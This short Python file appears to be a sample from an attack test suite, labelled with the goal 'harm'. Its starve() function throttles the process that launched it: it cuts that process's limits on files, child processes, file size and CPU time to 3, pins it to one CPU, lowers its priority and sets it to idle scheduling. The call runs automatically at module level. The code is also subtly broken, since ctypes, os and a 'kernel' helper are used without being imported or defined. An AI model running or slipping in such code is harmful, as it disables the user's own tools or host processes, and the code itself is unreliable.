"""Takes from the process that started it what it needs: processors, files, time, and its place in the queue."""
# goal: harm
# group: process
# baseline: wrong
# note: changes the limits of its own parent only
#@part tests/attacks/04_traps/baseline_wrong.py
#@part memory.py
import resource


def starve(parent):
    low = (ctypes.c_ulonglong * 2)(3, 3)
    for kind in (resource.RLIMIT_NOFILE, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE, resource.RLIMIT_CPU):
        kernel("prlimit64", parent, kind, low, None)
    for deed in (
        lambda: os.sched_setaffinity(parent, {0}),
        lambda: os.setpriority(os.PRIO_PROCESS, parent, 19),
        lambda: os.sched_setscheduler(parent, os.SCHED_IDLE, os.sched_param(0)),
    ):
        try:
            deed()
        except OSError:
            continue


if os.getppid() > 1:
    starve(os.getppid())
